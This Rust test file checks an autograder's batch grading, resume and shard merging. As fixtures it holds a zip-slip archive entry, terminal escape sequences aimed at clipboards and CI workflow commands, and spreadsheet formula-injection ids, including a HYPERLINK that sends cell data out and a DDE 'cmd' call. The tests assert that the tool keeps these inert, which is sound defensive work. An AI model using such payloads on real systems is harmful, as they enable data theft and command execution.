//! `labgrade batch` and `labgrade merge`: a class of sum-array fixtures graded in one command,
//! resumed after a kill, and split into shards that merge into the very same gradebook.
//!
//! Students are made at test time from `tests/fixtures/sum-array/<outcome>/`: folders, a git
//! working tree, `.zip` and `.tar.gz` archives (one wrapped in a folder, as an LMS does), a
//! damaged archive and a zip-slip one. The rubric is `tests/fixtures/batch/sum-array.toml`, a
//! quick version of the real one.

use std::io::Write;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::support::{Cli, Grade, assert_code, copy_dir, labgrade_process_of, root};

mod similarity;

/// What a hostile student's program writes to stderr: a clipboard write (OSC 52), a window title
/// (OSC 0), a clear screen (CSI), then a carriage return before a workflow command, which a log
/// reader that splits lines on CR would run.
const HOSTILE_STDERR: &str =
    "\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]0;owned\u{7}\u{1b}[2J\r::error::pwned";
/// [`HOSTILE_STDERR`] as a person is shown it.
const HOSTILE_STDERR_SHOWN: &str =
    "\\u{1b}]52;c;cHduZWQ=\\u{7}\\u{1b}]0;owned\\u{7}\\u{1b}[2J\\r::error::pwned";
/// A program that writes [`HOSTILE_STDERR`] and a wrong sum, so that its cases fail and their
/// stderr is shown.
const HOSTILE_PROGRAM: &str = r#"fn main() {
    eprintln!("\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]0;owned\u{7}\u{1b}[2J\r::error::pwned");
    println!("Array sum is: 1");
}
"#;

/// `text` without labgrade's own styles (`ESC [ … m`).
fn without_own_styles(text: &str) -> String {
    regex::Regex::new("\u{1b}\\[[0-9;]*m")
        .unwrap()
        .replace_all(text, "")
        .into_owned()
}

/// Asserts that `text` (`what`) holds no control character but line breaks.
#[track_caller]
fn assert_inert(what: &str, text: &str) {
    let raw: Vec<char> = text
        .chars()
        .filter(|character| character.is_control() && *character != '\n')
        .collect();
    assert!(
        raw.is_empty(),
        "{what} sends {raw:?} to its reader:\n{text}"
    );
}

/// The quick rubric of the batch tests.
fn rubric() -> PathBuf {
    root().join("tests/fixtures/batch/sum-array.toml")
}

fn fixture(outcome: &str) -> PathBuf {
    root().join("tests/fixtures/sum-array").join(outcome)
}

/// A class folder, one entry per student, built fluently.
struct Class {
    dir: tempfile::TempDir,
}

impl Class {
    fn new() -> Self {
        Self {
            dir: tempfile::tempdir().unwrap(),
        }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    /// Student `id` hands in a copy of fixture `outcome` as a folder.
    fn folder(self, id: &str, outcome: &str) -> Self {
        copy_dir(&fixture(outcome), &self.path().join(id));
        self
    }

    /// Student `id` hands in a git working tree of fixture `outcome`.
    fn git(self, id: &str, outcome: &str) -> Self {
        let tree = self.path().join(id);
        copy_dir(&fixture(outcome), &tree);
        std::fs::create_dir_all(tree.join(".git/objects")).unwrap();
        std::fs::write(tree.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        self
    }

    /// Student `id` hands in an empty folder.
    fn empty(self, id: &str) -> Self {
        std::fs::create_dir(self.path().join(id)).unwrap();
        self
    }

    /// Student `id` hands in `<id>.zip` of fixture `outcome`, inside a folder `<id>/` as an LMS
    /// download has it.
    fn wrapped_zip(self, id: &str, outcome: &str) -> Self {
        let mut entries = Vec::new();
        files_of(&fixture(outcome), Path::new(id), &mut entries);
        let refs: Vec<(&str, &[u8])> = entries
            .iter()
            .map(|(name, data)| (name.as_str(), data.as_slice()))
            .collect();
        self.raw(&format!("{id}.zip"), &zip_of(&refs))
    }

    /// Student `id` hands in `<id>.tar.gz` of fixture `outcome`.
    fn tar_gz(self, id: &str, outcome: &str) -> Self {
        let mut builder = tar::Builder::new(Vec::new());
        builder
            .append_dir_all("src", fixture(outcome).join("src"))
            .unwrap();
        let tar = builder.into_inner().unwrap();
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gz.write_all(&tar).unwrap();
        self.raw(&format!("{id}.tar.gz"), &gz.finish().unwrap())
    }

    /// Student `id` hands in `program` as both of the rubric's programs.
    fn program(self, id: &str, program: &str) -> Self {
        let bin = self.path().join(id).join("src/bin");
        std::fs::create_dir_all(&bin).unwrap();
        for name in ["sum_array_threads.rs", "sum_array_processes.rs"] {
            std::fs::write(bin.join(name), program).unwrap();
        }
        self
    }

    /// An entry named `name` holding `bytes`.
    fn raw(self, name: &str, bytes: &[u8]) -> Self {
        std::fs::write(self.path().join(name), bytes).unwrap();
        self
    }
}

/// Every file under `dir` as `(name under prefix, bytes)`.
fn files_of(dir: &Path, prefix: &Path, out: &mut Vec<(String, Vec<u8>)>) {
    for entry in std::fs::read_dir(dir).unwrap() {
        let entry = entry.unwrap();
        let name = prefix.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            files_of(&entry.path(), &name, out);
        } else {
            out.push((
                name.display().to_string(),
                std::fs::read(entry.path()).unwrap(),
            ));
        }
    }
}

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, data) in entries {
        writer
            .start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        writer.write_all(data).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// `labgrade batch <class> --rubric <quick> --out <out> --seed 1` with `args`, and at most 2
/// jobs unless `args` say otherwise: every job may need a build slot of its own, whose first
/// build compiles the dependencies.
pub(crate) fn batch(class: &Path, out: &Path, args: &[&str]) -> Output {
    batch_using(Path::new(env!("CARGO_BIN_EXE_labgrade")), class, out, args)
}

/// [`batch`] with the labgrade executable `exe`.
fn batch_using(exe: &Path, class: &Path, out: &Path, args: &[&str]) -> Output {
    let jobs: &[&str] = if args.contains(&"--jobs") {
        &[]
    } else {
        &["--jobs", "2"]
    };
    assert_cmd::Command::from_std(labgrade_process_of(exe))
        .arg("batch")
        .arg(class)
        .arg("--rubric")
        .arg(rubric())
        .arg("--out")
        .arg(out)
        .args(["--seed", "1"])
        .args(jobs)
        .args(args)
        .output()
        .unwrap()
}

/// The gradebook's rows, header first.
pub(crate) fn gradebook(out: &Path) -> Vec<Vec<String>> {
    csv::Reader::from_path(out.join("gradebook.csv"))
        .unwrap()
        .into_records()
        .map(|row| row.unwrap().iter().map(ToOwned::to_owned).collect())
        .collect()
}

fn row(cells: &[&str]) -> Vec<String> {
    cells.iter().map(|cell| (*cell).to_owned()).collect()
}

/// Students the progress lines say were `word` ("graded", "unreadable", "reused", "error"),
/// sorted.
fn students(output: &Output, word: &str) -> Vec<String> {
    let mut found: Vec<String> = String::from_utf8_lossy(&output.stderr)
        .lines()
        .filter_map(|line| {
            let rest = line.strip_prefix('[').map_or(line, |line| {
                line.split_once("] ").map_or(line, |(_, rest)| rest)
            });
            let rest = rest.strip_prefix(word)?.strip_prefix(' ')?;
            rest.split_whitespace().next().map(ToOwned::to_owned)
        })
        .collect();
    found.sort();
    found
}

#[test]
fn mixed_class_gets_the_gradebook_each_grading_alone_gives() {
    // Where the zip-slip entry below points, whatever TMPDIR says: named after this process,
    // so that another copy of the suite cannot make or remove it meanwhile.
    let escaped_name = format!("labgrade-batch-test-escaped-{}.rs", std::process::id());
    let escaped = Path::new("/tmp").join(&escaped_name);
    let _ = std::fs::remove_file(&escaped);
    let slip = format!("../../../../../../../../../tmp/{escaped_name}");
    let class = Class::new()
        .folder("alice", "all_pass")
        .wrapped_zip("bob", "remainder_dropped")
        .tar_gz("carol", "compile_error")
        .tar_gz("dave", "infinite_loop")
        .raw("eve.zip", b"PK\x03\x04 this is not really a zip")
        .empty("frank")
        .git("grace", "all_pass_alt")
        .raw(
            "mallory.zip",
            &zip_of(&[
                ("src/bin/sum_array_threads.rs", b"fn main() {}"),
                (&slip, b"escaped"),
            ]),
        );
    let out = tempfile::tempdir().unwrap();
    let output = batch(class.path(), out.path(), &["--jobs", "2"]);
    assert_code(&output, 0);

    assert_eq!(
        gradebook(out.path()),
        [
            row(&["alice", "100", "100", "graded", "40", "40", "20"]),
            row(&["bob", "60", "100", "graded", "20", "20", "20"]),
            row(&["carol", "0", "100", "graded", "0", "0", "0"]),
            row(&["dave", "20", "100", "graded", "0", "0", "20"]),
            row(&["eve", "0", "100", "unreadable", "0", "0", "0"]),
            row(&["frank", "0", "100", "graded", "0", "0", "0"]),
            row(&["grace", "100", "100", "graded", "40", "40", "20"]),
            row(&["mallory", "0", "100", "unreadable", "0", "0", "0"]),
        ]
    );
    let header = std::fs::read_to_string(out.path().join("gradebook.csv")).unwrap();
    assert!(
        header.starts_with("student,score,max,status,threads-sum,processes-sum,threads-usage\n"),
        "{header}"
    );

    // bob, graded alone, earns what his row says, check by check.
    let alone = Grade::fixture("remainder_dropped").rubric(rubric()).json();
    let from_report: Value =
        serde_json::from_slice(&std::fs::read(out.path().join("reports/bob.json")).unwrap())
            .unwrap();
    assert_eq!(alone.report["score"], from_report["score"]);
    for (index, check) in alone.report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .enumerate()
    {
        assert_eq!(check["score"], from_report["checks"][index]["score"]);
        assert_eq!(check["status"], from_report["checks"][index]["status"]);
    }

    // The runaway program was stopped by its own limit.
    let dave: Value =
        serde_json::from_slice(&std::fs::read(out.path().join("reports/dave.json")).unwrap())
            .unwrap();
    assert_eq!(
        dave["checks"][0]["cases"][0]["observed"]["termination"]["kind"],
        "timed_out"
    );
    // Bad archives are their students' verdicts, said in words, and nothing escaped.
    let feedback = |id: &str| {
        std::fs::read_to_string(out.path().join("feedback").join(format!("{id}.txt"))).unwrap()
    };
    assert!(
        feedback("mallory").contains("would be written outside the submission folder"),
        "{}",
        feedback("mallory")
    );
    assert!(!escaped.exists(), "the zip-slip entry escaped");
    assert!(
        feedback("eve").contains("not a readable zip archive"),
        "{}",
        feedback("eve")
    );
    assert!(feedback("carol").contains("does not compile"));
    assert!(
        !feedback("alice").contains('\u{1b}'),
        "feedback has no colour"
    );
    let summary = String::from_utf8_lossy(&output.stdout);
    assert!(
        summary.contains("8 students: 6 graded, 2 unreadable"),
        "{summary}"
    );
    assert!(summary.contains("median 10 / 100"), "{summary}");
}

#[test]
fn interrupted_batch_resumes_with_what_is_missing() {
    let class = Class::new()
        .folder("alice", "all_pass")
        .folder("bob", "remainder_dropped")
        .folder("carol", "compile_error")
        .empty("frank");
    // A copy of labgrade of its own: a labgrade rebuilt meanwhile (by a developer's cargo in
    // the same target folder) has another fingerprint and rightly regrades everyone.
    let bin = tempfile::tempdir().unwrap();
    let exe = bin.path().join("labgrade");
    std::fs::copy(env!("CARGO_BIN_EXE_labgrade"), &exe).unwrap();
    let batch = |class: &Path, out: &Path, args: &[&str]| batch_using(&exe, class, out, args);
    let whole = tempfile::tempdir().unwrap();
    assert_code(&batch(class.path(), whole.path(), &["--jobs", "1"]), 0);

    // A batch killed (every process of it, as by a reboot) once the first student is done.
    let out = tempfile::tempdir().unwrap();
    let mut child = labgrade_process_of(&exe)
        .arg("batch")
        .arg(class.path())
        .arg("--rubric")
        .arg(rubric())
        .arg("--out")
        .arg(out.path())
        .args(["--seed", "1", "--jobs", "1"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .process_group(0)
        .spawn()
        .unwrap();
    let journal = out.path().join("journal");
    // Against a hang only: the build may wait long for other tests' builds on a loaded machine.
    let deadline = Instant::now() + Duration::from_secs(600);
    while finished_records(&journal) == 0 {
        assert!(Instant::now() < deadline, "no student finished");
        std::thread::sleep(Duration::from_millis(20));
    }
    let group = nix::unistd::Pid::from_raw(i32::try_from(child.id()).unwrap());
    nix::sys::signal::killpg(group, nix::sys::signal::Signal::SIGKILL).unwrap();
    child.wait().unwrap();
    let mut finished: Vec<String> = std::fs::read_dir(&journal)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .filter_map(|name| name.strip_suffix(".json").map(ToOwned::to_owned))
        .collect();
    finished.sort();
    assert!(!finished.is_empty() && finished.len() < 4, "{finished:?}");
    let report_times: Vec<_> = finished
        .iter()
        .map(|id| {
            std::fs::metadata(out.path().join("reports").join(format!("{id}.json")))
                .unwrap()
                .modified()
                .unwrap()
        })
        .collect();

    let records_before: Vec<String> = finished
        .iter()
        .map(|id| std::fs::read_to_string(journal.join(format!("{id}.json"))).unwrap())
        .collect();

    let resumed = batch(class.path(), out.path(), &["--jobs", "1"]);
    assert_code(&resumed, 0);
    assert_eq!(
        students(&resumed, "reused"),
        finished,
        "records before the resume:\n{}\nprogress of the resume:\n{}",
        records_before.join("\n"),
        String::from_utf8_lossy(&resumed.stderr)
    );
    let mut rest: Vec<String> = ["alice", "bob", "carol", "frank"]
        .iter()
        .map(ToString::to_string)
        .filter(|id| !finished.contains(id))
        .collect();
    rest.sort();
    assert_eq!(students(&resumed, "graded"), rest);
    for (id, time) in finished.iter().zip(report_times) {
        let now = std::fs::metadata(out.path().join("reports").join(format!("{id}.json")))
            .unwrap()
            .modified()
            .unwrap();
        assert_eq!(now, time, "{id} was written again");
    }
    for file in ["gradebook.csv", "summary.txt", "batch.json"] {
        assert_eq!(
            std::fs::read(out.path().join(file)).unwrap(),
            std::fs::read(whole.path().join(file)).unwrap(),
            "{file} differs from the uninterrupted run's"
        );
    }

    // A changed submission is graded again; the others are not.
    let carol = class.path().join("carol/src/bin/sum_array_threads.rs");
    let mut text = std::fs::read_to_string(&carol).unwrap();
    text.push_str("\n// resubmitted\n");
    std::fs::write(&carol, text).unwrap();
    let again = batch(class.path(), out.path(), &["--jobs", "1"]);
    assert_code(&again, 0);
    assert_eq!(students(&again, "graded"), ["carol"]);
    assert_eq!(students(&again, "reused"), ["alice", "bob", "frank"]);
}

#[test]
fn student_ids_and_output_are_inert_in_the_gradebook_progress_and_reports() {
    // Folder names a spreadsheet would run as formulas (an exfiltrating link, a command),
    // handed in empty so that they cost no build.
    let link = "=HYPERLINK(\"http:x.example?\"&B2,\"click\")";
    let command = "@SUM(1+1)*cmd|' -C calc'!A0";
    // A student whose id and program both hold terminal escapes; and an archive whose bad
    // entry's name is quoted in the progress line's note.
    let mallory = "mallory\u{1b}]0;owned\u{7}\r::error::id";
    let mallory_shown = "mallory\\u{1b}]0;owned\\u{7}\\r::error::id";
    let class = Class::new()
        .empty(link)
        .empty(command)
        .empty("-2+3")
        .program(mallory, HOSTILE_PROGRAM)
        .raw(
            "zed.zip",
            &zip_of(&[("../\u{1b}]0;owned\u{7}\r::error::note", b"x".as_slice())]),
        );
    let out = tempfile::tempdir().unwrap();
    let output = batch(class.path(), out.path(), &[]);
    assert_code(&output, 0);

    // The gradebook: formulas are text, as OWASP says (a leading `'`, quoted); nothing else
    // changes.
    let csv = std::fs::read_to_string(out.path().join("gradebook.csv")).unwrap();
    for line in [
        "\"'=HYPERLINK(\"\"http:x.example?\"\"&B2,\"\"click\"\")\",0,100,graded,0,0,0\n",
        "\"'@SUM(1+1)*cmd|' -C calc'!A0\",0,100,graded,0,0,0\n",
        "\"'-2+3\",0,100,graded,0,0,0\n",
    ] {
        assert!(csv.contains(line), "no line {line:?} in\n{csv}");
    }
    let ids: Vec<String> = gradebook(out.path())
        .into_iter()
        .map(|row| row[0].clone())
        .collect();
    assert_eq!(
        ids,
        [
            "'-2+3".to_owned(),
            format!("'{link}"),
            format!("'{command}"),
            mallory.to_owned(),
            "zed".to_owned(),
        ]
    );

    // Progress and summary (piped, as in a CI log): ids and notes shown, never sent.
    let stderr = String::from_utf8(output.stderr.clone()).unwrap();
    assert_inert("batch progress", &stderr);
    assert!(
        stderr.contains(&format!("graded {mallory_shown} 0/100")),
        "{stderr}"
    );
    assert!(
        stderr.contains("../\\u{1b}]0;owned\\u{7}\\r::error::note"),
        "{stderr}"
    );
    assert_inert(
        "batch summary",
        &String::from_utf8(output.stdout.clone()).unwrap(),
    );

    // The program did write its escapes (the JSON report keeps them as they were, for
    // programs), and the feedback file shows them, never sends them.
    let report: Value = serde_json::from_slice(
        &std::fs::read(out.path().join("reports").join(format!("{mallory}.json"))).unwrap(),
    )
    .unwrap();
    let stderr_of_first_case = report["checks"][0]["cases"][0]["observed"]["stderr"]["text"]
        .as_str()
        .unwrap();
    assert!(
        stderr_of_first_case.contains(HOSTILE_STDERR),
        "{stderr_of_first_case:?}"
    );
    let feedback =
        std::fs::read_to_string(out.path().join("feedback").join(format!("{mallory}.txt")))
            .unwrap();
    assert_inert("feedback", &feedback);
    assert!(feedback.contains(HOSTILE_STDERR_SHOWN), "{feedback}");
    assert!(feedback.contains(mallory_shown), "{feedback}");

    assert_graded_inert(&class.path().join(mallory), out.path(), mallory_shown);
}

/// Grades `submission` (mallory's) for a terminal (forced colours, as a terminal gets them) and
/// for CI, with reports in `out`: labgrade's own styles reach the terminal, the student's
/// escapes do not; GitHub annotations and `JUnit` carry no control character and start no command
/// of the student's; each shows the submission's path as `shown`.
fn assert_graded_inert(submission: &Path, out: &Path, shown: &str) {
    let junit = out.join("junit.xml");
    let github = out.join("github.txt");
    let graded = Grade::new(submission, rubric())
        .env_remove("NO_COLOR")
        .env("CLICOLOR_FORCE", "1")
        .seed(1)
        .arg("--report")
        .arg(format!("junit={}", junit.display()))
        .arg("--report")
        .arg(format!("github={}", github.display()))
        .run()
        .code(1);
    let human = String::from_utf8(graded.output.stdout).unwrap();
    assert!(
        human.contains("\u{1b}["),
        "labgrade's own colours are gone:\n{human}"
    );
    let human = without_own_styles(&human);
    assert_inert("the human report", &human);
    assert!(human.contains(HOSTILE_STDERR_SHOWN), "{human}");
    assert!(human.contains(shown), "{human}");
    let junit = std::fs::read_to_string(&junit).unwrap();
    assert_inert("JUnit", &junit);
    assert!(junit.contains(shown), "{junit}");
    let github = std::fs::read_to_string(&github).unwrap();
    assert_inert("GitHub annotations", &github);
    for line in github.lines() {
        assert!(
            ["::error ", "::warning ", "::notice "]
                .iter()
                .any(|start| line.starts_with(start)),
            "a line labgrade did not mean to write: {line:?}"
        );
    }
}

#[test]
fn regrade_and_errors_are_never_reused() {
    let class = Class::new().empty("frank").raw("eve.zip", b"not a zip");
    let out = tempfile::tempdir().unwrap();
    assert_code(&batch(class.path(), out.path(), &[]), 0);
    // A student labgrade could not grade is graded again by the next run.
    let record = out.path().join("journal/frank.json");
    let text = std::fs::read_to_string(&record)
        .unwrap()
        .replace("\"graded\"", "\"error\"");
    std::fs::write(&record, text).unwrap();
    let again = batch(class.path(), out.path(), &[]);
    assert_eq!(students(&again, "graded"), ["frank"]);
    assert_eq!(students(&again, "reused"), ["eve"]);
    let forced = batch(class.path(), out.path(), &["--regrade"]);
    assert_eq!(students(&forced, "graded"), ["frank"]);
    assert_eq!(students(&forced, "unreadable"), ["eve"]);
    assert_code(&forced, 0);
}

#[test]
fn a_student_labgrade_cannot_grade_is_an_error_row_and_exit_3() {
    // A rubric whose check runs a binary the package does not build: labgrade cannot grade
    // anyone who compiles, and says so per student.
    let dir = tempfile::tempdir().unwrap();
    let text = crate::support::quick_rubric_text().replace(
        "run = \"sum_array_threads\"\nexpect",
        "run = \"no_such_program\"\nexpect",
    );
    assert!(text.contains("no_such_program"));
    let broken = dir.path().join("sum-array.toml");
    std::fs::write(&broken, text).unwrap();
    let class = Class::new().folder("alice", "all_pass").empty("frank");
    let out = tempfile::tempdir().unwrap();
    let run = || {
        Cli::batch(class.path(), &broken, out.path())
            .args(["--jobs", "1"])
            .run()
            .code(3)
            .output
    };
    let output = run();
    assert_eq!(students(&output, "error"), ["alice"]);
    assert_eq!(
        gradebook(out.path()),
        [
            row(&["alice", "", "100", "error", "", "", ""]),
            row(&["frank", "0", "100", "graded", "0", "0", "0"]),
        ]
    );
    let feedback = std::fs::read_to_string(out.path().join("feedback/alice.txt")).unwrap();
    assert!(feedback.contains("no_such_program"), "{feedback}");
    // Not reused: the next run tries again.
    let again = run();
    assert_eq!(students(&again, "error"), ["alice"]);
    assert_eq!(students(&again, "reused"), ["frank"]);
}

#[test]
fn shards_merged_equal_a_single_run() {
    // By the shard hash, carol is in shard 1 of 2; alice, eve and frank in shard 2.
    let class = Class::new()
        .folder("alice", "all_pass")
        .folder("carol", "compile_error")
        .raw("eve.zip", b"not a zip")
        .empty("frank");
    let single = tempfile::tempdir().unwrap();
    assert_code(&batch(class.path(), single.path(), &[]), 0);

    let first = tempfile::tempdir().unwrap();
    let output = batch(class.path(), first.path(), &["--shard", "1/2"]);
    assert_code(&output, 0);
    assert_eq!(students(&output, "graded"), ["carol"]);
    // The second shard takes its index from a Slurm array's environment.
    let second = tempfile::tempdir().unwrap();
    let sharded = Cli::batch(class.path(), rubric(), second.path())
        .args(["--seed", "1", "--jobs", "2"])
        .env("SLURM_ARRAY_TASK_ID", "1")
        .env("SLURM_ARRAY_TASK_COUNT", "2")
        .run()
        .code(0);
    assert_eq!(students(&sharded.output, "graded"), ["alice", "frank"]);
    assert_eq!(students(&sharded.output, "unreadable"), ["eve"]);
    sharded.stderr_has("shard 2/2 from SLURM_ARRAY_TASK_ID");

    // One shard alone is refused, naming what is missing.
    let merged = tempfile::tempdir().unwrap();
    Cli::new("merge")
        .arg(first.path())
        .arg("--out")
        .arg(merged.path())
        .run()
        .code(2)
        .stderr_has("shard 2/2 is missing");

    Cli::new("merge")
        .arg(second.path())
        .arg(first.path())
        .arg("--out")
        .arg(merged.path())
        .run()
        .code(0);
    for file in [
        "gradebook.csv",
        "similarity.csv",
        "summary.txt",
        "batch.json",
        "journal/alice.json",
        "journal/carol.json",
    ] {
        assert_eq!(
            String::from_utf8(std::fs::read(merged.path().join(file)).unwrap()).unwrap(),
            String::from_utf8(std::fs::read(single.path().join(file)).unwrap()).unwrap(),
            "{file}"
        );
    }
    assert!(merged.path().join("reports/carol.json").is_file());
    assert!(merged.path().join("feedback/alice.txt").is_file());
    // The class report too, from the copied reports; its timings are the shards' runs', so it
    // is not the single run's (`html.rs` shows a merge rewrites the same page).
    let page = std::fs::read_to_string(merged.path().join("report.html")).unwrap();
    assert_eq!(page.matches("<tr class=\"student\">").count(), 4);
}

#[test]
fn bad_input_names_the_file_and_exits_2() {
    let out = tempfile::tempdir().unwrap();
    let missing = root().join("tests/fixtures/batch/no-such-class");
    let output = batch(&missing, out.path(), &[]);
    assert_code(&output, 2);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("no-such-class") && stderr.contains("does not exist"),
        "{stderr}"
    );

    let class = Class::new().empty("frank");
    Cli::batch(class.path(), "rubrics/no-such.toml", out.path())
        .run()
        .code(2)
        .stderr_has("no-such.toml");

    let output = batch(class.path(), out.path(), &["--shard", "3/2"]);
    assert_code(&output, 2);
    assert!(String::from_utf8_lossy(&output.stderr).contains("--shard 3/2"));

    let class = Class::new().empty("frank").raw("frank.zip", b"x");
    let output = batch(class.path(), out.path(), &[]);
    assert_code(&output, 2);
    assert!(String::from_utf8_lossy(&output.stderr).contains("student `frank`"));
}

/// Finished records in a batch's journal folder: a record being written is a temporary file
/// (`.tmp-…`) until it is renamed.
fn finished_records(journal: &Path) -> usize {
    std::fs::read_dir(journal).map_or(0, |entries| {
        entries
            .filter_map(Result::ok)
            .filter(|entry| {
                let path = entry.path();
                path.extension().is_some_and(|ext| ext == "json")
                    && !entry.file_name().to_string_lossy().starts_with('.')
            })
            .count()
    })
}
